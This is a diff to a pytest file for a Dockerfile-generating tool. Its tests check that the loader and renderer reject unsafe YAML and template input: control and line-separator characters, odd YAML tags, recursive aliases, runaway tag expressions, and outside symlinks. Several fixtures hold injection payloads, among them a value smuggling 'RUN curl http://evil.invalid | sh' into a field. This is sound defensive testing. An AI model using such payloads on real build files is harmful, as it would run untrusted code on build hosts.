@@ -8,10 +8,14 @@ answer "no Docker engine answers" instead of its own message and fail.
 from __future__ import annotations
 
 import re
+import shutil
 
 import pytest
 
 from stagecraft.cli import main
+from stagecraft.errors import InputError
+from stagecraft.expand import expand
+from stagecraft.matrix import load_matrix
 from tests.unit.minimal_matrix import MINIMAL
 
 # (id, text to replace in MINIMAL, replacement, expected fragment, and a text on the line
@@ -59,7 +63,7 @@ MATRIX_CASES = [
     ("tag-type-error", '"{{ framework.version }}-cpu"', '"{{ framework.version + 1 }}-cpu"',
      "tag template fails", "- name: six"),
     ("newline-injection", 'tini: {version: "0.19.*", why: "PID 1"}',
-     'tini: {version: "0.19.*", why: "PID 1\\nRUN curl http://evil.invalid | sh"}', "control character '\\n'", "tini:"),
+     'tini: {version: "0.19.*", why: "PID 1\\nRUN curl http://evil.invalid | sh"}', "holds U+000A (LINE FEED)", "tini:"),
     ("exclude-everything", "    tag: \"{{", "    exclude: [{base: deb12}]\n    tag: \"{{",
      "produces no image: exclude removes every combination", "- name: six"),
     ("exclude-list-value", "    tag: \"{{", "    exclude: [{framework: [six-1]}]\n    tag: \"{{",
@@ -78,6 +82,71 @@ MATRIX_CASES = [
     ("unknown-isa-cap", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
      "      kernel_sets: [{name: a, device: cpu}, {name: b, device: cpu, isa_cap: avx3}]\n",
      "kernel_sets.1.isa_cap: 'avx3' is not one of", "kernel_sets:"),
+    # Line separators (issue 13): a YAML escape gives a value any character; YAML and
+    # Python split lines at U+2028, so a `why:` became a RUN step. Refused in any field.
+    ("u2028-why", 'why: "PID 1"', 'why: "PID 1\\LRUN echo INJECTED > /injected"',
+     "components.base.deb12.apt.tini.why: value 'PID 1\\u2028RUN echo INJECTED > /injected' "
+     "holds U+2028 (LINE SEPARATOR)", "tini:"),
+    ("u2028-raw", 'why: "PID 1"', 'why: "PID 1\u2028RUN echo INJECTED > /injected"',
+     "U+2028 (LINE SEPARATOR) in the file", "tini:"),
+    ("u2028-constraint", '      build: {python: ["3.11"]}\n',
+     '      build: {python: ["3.11"]}\n      constraints: ["six\\u2028==1.16.0"]\n',
+     "constraints.0: value 'six\\u2028==1.16.0' holds U+2028", "constraints:"),
+    ("nel-source", "source: https://example.invalid/src", 'source: "https://x.invalid\\Nsrc"',
+     "source: value 'https://x.invalid\\x85src' holds U+0085 (NEXT LINE)", "source:"),
+    ("u2029-key", "    six-2:\n", '    "six-2\\P":\n', "holds U+2029 (PARAGRAPH SEPARATOR)", "six-2\\P"),
+    ("vt-tag", '"{{ framework.version }}-cpu"', '"{{ framework.version }}\\v-cpu"',
+     "holds U+000B (LINE TABULATION)", "    tag: "),
+    ("zero-width-why", 'why: "PID 1"', 'why: "PID\\u200b1"', "holds U+200B (ZERO WIDTH SPACE)", "tini:"),
+    ("bidi-override-why", 'why: "PID 1"', 'why: "PID \\u202e1"',
+     "holds U+202E (RIGHT-TO-LEFT OVERRIDE)", "tini:"),
+    ("nul-escape", 'why: "PID 1"', 'why: "PID\\x001"', "holds U+0000 (NULL)", "tini:"),
+    ("nul-byte", "source: https", "source: \x00https", "U+0000 (NULL) in the file", "source:"),
+    ("tab-in-value", 'why: "PID 1"', 'why: "PID\\t1"', "holds U+0009 (TAB)", "tini:"),
+    # YAML tags and values outside JSON's kinds (issue 13: internal errors before).
+    ("vault-tag", "source: https://example.invalid/src", "source: !vault |\n  $ANSIBLE_VAULT;1.1",
+     "source: the YAML tag '!vault' is not supported", "source:"),
+    ("bad-binary", "source: https://example.invalid/src", "source: !!binary 'not base64!!'",
+     "the YAML tag '!!binary' is not supported", "source:"),
+    ("set-tag", "    uses: [framework]\n", "    uses: !!set {framework}\n",
+     "the YAML tag '!!set' is not supported", "!!set"),
+    ("bad-bool", 'why: "PID 1"', 'why: !!bool "maybe"', "'maybe' is not a valid bool", "tini:"),
+    ("date-value", 'why: "PID 1"', "why: 2024-01-01", "'2024-01-01' reads as a date; quote it", "tini:"),
+    ("nan-value", "source: https://example.invalid/src", "source: .nan", ".nan is not a finite number", "source:"),
+    ("recursive-anchor", "schema: 1\n", "schema: 1\nx: &a [1, *a]\n", "a recursive alias", "x: &a"),
+    ("recursive-merge", "    six-2:\n      package: six\n",
+     "    six-2: &s2\n      <<: *s2\n      package: six\n", "a recursive alias", "&s2"),
+    ("include-null-framework", "    tag: \"{{", "    include: [{framework: null, base: deb12}]\n    tag: \"{{",
+     "include entry has a null framework", "include:"),
+    # Tag expressions are bounded (issue 13: nested range loops hung --list).
+    ("tag-nested-loops", '"{{ framework.version }}-cpu"',
+     '"{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}x"',
+     "tag expression: for is not allowed", "- name: six"),
+    ("tag-set", '"{{ framework.version }}-cpu"', '"{% set x = 1 %}x"',
+     "tag expression: assign is not allowed", "- name: six"),
+    ("tag-huge-range", '"{{ framework.version }}-cpu"', '"{{ range(10**6) | join }}"',
+     "tag template fails", "- name: six"),
+    ("tag-huge-power", '"{{ framework.version }}-cpu"', '"{{ 10 ** 100000 }}"', "is too large", "- name: six"),
+    ("tag-huge-repeat", '"{{ framework.version }}-cpu"', '"{{ framework.version * 10**9 }}"',
+     "is too large", "- name: six"),
+    ("tag-center", '"{{ framework.version }}-cpu"', '"{{ framework.version | center(10**9) }}"',
+     "No filter named 'center'", "- name: six"),
+    ("tag-format", '"{{ framework.version }}-cpu"', '"{{ \'%999999999d\' % 1 }}"',
+     "string formatting with % is not supported", "- name: six"),
+    ("tag-lipsum", '"{{ framework.version }}-cpu"', '"{{ lipsum(10**9) }}"', "'lipsum' is undefined", "- name: six"),
+    ("tag-method", '"{{ framework.version }}-cpu"', '"{{ framework.version.ljust(10**9) }}"',
+     "calling 'ljust' is not supported", "- name: six"),
+    # Checked, not silently accepted (issue 13).
+    ("two-groups-one-name", "    aliases: [\"{{ framework.version }}\"]\n",
+     "    aliases: [\"{{ framework.version }}\"]\n  - chain: [base, runtime]\n    name: six\n"
+     "    axes: {base: [deb12], framework: [six-1]}\n    tag: other\n",
+     "image group 'six' is defined twice (first at matrix.yaml:42)", "    name: six"),
+    ("two-merge-keys", "    six-2:\n      package: six\n",
+     "    six-2:\n      <<: {device: cpu}\n      <<: {import: six}\n      package: six\n",
+     "a second '<<' merge key in one mapping", "<<: {import: six}"),
+    ("exclude-matches-nothing", "      framework: [six-1, six-2]\n    tag: \"{{",
+     "      framework: [six-1]\n    exclude: [{base: deb12, framework: six-1}, {framework: six-2}]\n    tag: \"{{",
+     "exclude entry framework=six-2 matches no combination", "exclude:"),
 ]
 
 CLI_CASES = [
@@ -159,3 +228,147 @@ def test_every_problem_is_reported_at_once(project, capsys, monkeypatch):
 
 def test_corpus_size():
     assert len(MATRIX_CASES) + len(CLI_CASES) >= 15
+
+
+def test_every_phase_is_reported_at_once(project, capsys, monkeypatch):
+    # A schema problem, a reference problem and a compatibility rule (checked on the
+    # combinations) in one run, as the README promises.
+    text = (MINIMAL.replace("schema: 1", "schema: 2")
+            .replace("template: base.Dockerfile.j2", "template: nope.j2")
+            .replace('build: {python: ["3.11"]}', 'build: {python: ["3.12"]}'))
+    monkeypatch.chdir(project(text).parent)
+    code, err = _run(["--list"], capsys)
+    assert code == 2, err
+    assert [e.split(":")[2] for e in err] == ["1", "8", "42"], err
+    assert "schema: must be 1, not 2" in err[0]
+    assert "templates/nope.j2 does not exist" in err[1]
+    assert "framework-python: six-1 has builds for Python 3.12, not 3.11" in err[2]
+
+
+# Every character of the unsafe class (safetext): each one Python's str.splitlines breaks
+# at, the rest of the C0/C1 controls, format characters, a surrogate.
+UNSAFE = ["\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
+          "\x00", "\t", "\x1b", "\x7f", "\x9b", "\u200b", "\u200e", "\u202e", "\u2066",
+          "\ufeff", "\U000e0001", "\ud800"]
+# Fields of every kind a string reaches: a comment, a shell word, a label, a tag, a name,
+# free text the schema does not shape, a key.
+FIELDS = [
+    ('why: "PID 1"', 'why: "PID{c}1"'),
+    ('build: {python: ["3.11"]}', 'build: {python: ["3.11"]}\n      constraints: ["six{c}==1.16.0"]'),
+    ('build: {python: ["3.11"]}', 'build: {python: ["3.11"], source: "a{c}b"}'),
+    ('build: {python: ["3.11"]}', 'build: {python: ["3.11"]}\n      requires: {cuda: "11{c}.8"}'),
+    ('build: {python: ["3.11"]}', 'build: {python: ["3.11"]}\n      kernel_sets: [{name: cpu, device: cpu, description: "a{c}b"}]'),
+    ("source: https://example.invalid/src", 'source: "https://example.invalid/{c}"'),
+    ("source: https://example.invalid/src", 'source: x\nvendor: "Soci\\u00e9t\\u00e9{c}"'),
+    ("[nvidia-ml-py==13.580.82]", '["nvidia-ml-py==13.580.82{c}"]'),
+    ('"{{ framework.version }}-cpu"', '"{{ framework.version }}{c}-cpu"'),
+    ('aliases: ["{{ framework.version }}"]', 'aliases: ["{{ framework.version }}{c}"]'),
+    ("    six-2:\n", '    "six-2{c}":\n'),
+    ("    template: base.Dockerfile.j2\n", "    template: base.Dockerfile.j2\n    description: \"a{c}b\"\n"),
+]
+
+
+def _yaml_escape(c: str) -> str:
+    return {"\n": "\\n", "\t": "\\t", "\r": "\\r"}.get(c, f"\\u{ord(c):04x}" if ord(c) < 0x10000 else f"\\U{ord(c):08x}")
+
+
+@pytest.mark.parametrize("field", FIELDS, ids=[f[1].split(":")[0].strip(' -"\n') for f in FIELDS])
+def test_no_unsafe_character_passes_in_any_field(field, project):
+    old, new = field
+    assert old in MINIMAL
+    for c in UNSAFE:
+        text = MINIMAL.replace(old, new.replace("{c}", _yaml_escape(c)), 1)
+        with pytest.raises(InputError) as exc:
+            load_matrix(project(text))
+        lines = [p.line() for p in exc.value.problems]
+        assert any(f"holds U+{ord(c):04X}" in ln for ln in lines), (repr(c), lines)
+        assert all(re.search(r"matrix\.yaml:\d+: ", ln) for ln in lines), lines
+        assert all(ln == ln.strip() and not set(ln) & set(UNSAFE) for ln in lines), lines
+
+
+def test_the_renderer_refuses_what_the_loader_would(project):
+    """A matrix made in code skips the loader: the renderer's own guard refuses a value
+    that would leave its line, so no RUN step can be injected this way either."""
+    from stagecraft.render import render_stages
+
+    matrix = load_matrix(project(MINIMAL))
+    spec = expand(matrix)[0]
+    spec.base["apt"]["tini"]["why"] = "PID 1\u2028RUN echo INJECTED > /injected"
+    with pytest.raises(InputError, match=r"base\.apt\.tini\.why: the value .* holds U\+2028"):
+        render_stages(matrix, spec)
+    spec.base["apt"]["tini"]["why"] = "PID 1"
+    text = "".join(s.text for s in render_stages(matrix, spec))
+    assert "/injected" not in text and text.split("\n") == text.splitlines() + [""]
+
+
+def test_a_huge_matrix_is_refused_before_parsing(project, capsys, monkeypatch):
+    path = project(MINIMAL + "#" * (1024 * 1024))
+    monkeypatch.chdir(path.parent)
+    code, err = _run(["--list"], capsys)
+    assert code == 2 and err == ["error: matrix.yaml: larger than 1024 KiB; a matrix is far "
+                                 "smaller; check that this is the right file"], err
+
+
+def test_many_values_are_not_blamed_on_aliases(project, capsys, monkeypatch):
+    import stagecraft.yamlsrc
+
+    monkeypatch.setattr(stagecraft.yamlsrc, "MAX_VALUES", 1000)
+    path = project(MINIMAL.replace("schema: 1\n", "schema: 1\nx: [" + ", ".join(["1"] * 2000) + "]\n"))
+    monkeypatch.chdir(path.parent)
+    code, err = _run(["--list"], capsys)
+    assert code == 2 and len(err) == 1 and "has more than 1000 values" in err[0], err
+    assert "alias" not in err[0], err
+
+
+@pytest.mark.parametrize("size", [300, 4000, 5000, 200_000])
+def test_a_long_value_is_echoed_bounded(size, project, capsys, monkeypatch):
+    path = project(MINIMAL.replace('"{{ framework.version }}-cpu"', '"' + "x" * size + '"'))
+    monkeypatch.chdir(path.parent)
+    code, err = _run(["--list"], capsys)
+    assert code == 2 and err, err
+    assert all(len(e) < 400 for e in err), [len(e) for e in err]
+    expected = ("is not a valid Docker tag" if size <= 1024 else "a tag expression of 4000 "
+                "characters (at most 1024)" if size <= 4096 else "is longer than 4096")
+    assert any(expected in e for e in err), err
+
+
+def test_a_copied_path_may_not_lead_outside_the_project(project, tmp_path, capsys, monkeypatch):
+    path = project(MINIMAL)
+    outside = tmp_path.parent / f"{tmp_path.name}-outside"
+    shutil.copytree(path.parent / "probes", outside)
+    shutil.rmtree(path.parent / "probes")
+    (path.parent / "probes").symlink_to(outside)
+    monkeypatch.chdir(path.parent)
+    code, err = _run(["--list"], capsys)
+    assert code == 2, err
+    assert err == [f"error: matrix.yaml:13: stage 'runtime': copied path probes is a symbolic "
+                   f"link to {outside}, outside the project; copy real files: replace the "
+                   "link with what it points to"], err
+
+
+TEMPLATE_CASES = [
+    # (id, text to replace in runtime.Dockerfile.j2 (bytes), replacement, expected fragment)
+    ("type-error", b"{{ framework.version }}", b"{{ framework.version + 1 }}",
+     "runtime.Dockerfile.j2:2: stage 'runtime' for 1.16.0-cpu: TypeError: can only concatenate str"),
+    ("not-utf8", b"# runtime:", "# runtime: Soci\u00e9t\u00e9".encode("latin-1"),
+     "runtime.Dockerfile.j2:2: not UTF-8 text (byte 0xe9); save the template as UTF-8"),
+    ("include-missing", b"USER 1000", b'{% include "nope.j2" %}\nUSER 1000',
+     "runtime.Dockerfile.j2:54: stage 'runtime' for 1.16.0-cpu: template 'nope.j2' not found under templates/"),
+    ("syntax", b"USER 1000", b"{% if %}\nUSER 1000", "runtime.Dockerfile.j2:54: template syntax error"),
+    ("line-separator", b"USER 1000", "# \u2028RUN echo INJECTED\nUSER 1000".encode(),
+     "runtime.Dockerfile.j2: stage 'runtime' for 1.16.0-cpu: the rendered text holds U+2028 (LINE SEPARATOR)"),
+    ("undefined", b"{{ framework.version }}", b"{{ cuda.cuda }}", "runtime.Dockerfile.j2:2: stage 'runtime' for 1.16.0-cpu: 'cuda' is undefined"),
+]
+
+
+@pytest.mark.parametrize("case", TEMPLATE_CASES, ids=[c[0] for c in TEMPLATE_CASES])
+def test_bad_template(case, project, capsys, monkeypatch):
+    name, old, new, fragment = case
+    path = project(MINIMAL)
+    template = path.parent / "templates" / "runtime.Dockerfile.j2"
+    assert old in template.read_bytes()
+    template.write_bytes(template.read_bytes().replace(old, new, 1))
+    monkeypatch.chdir(path.parent)
+    code, err = _run(["render", "1.16.0-cpu"], capsys)
+    assert code == 2, f"{name}: exit {code}, stderr {err}"
+    assert len(err) == 1 and err[0].startswith("error: templates/") and fragment in err[0], err
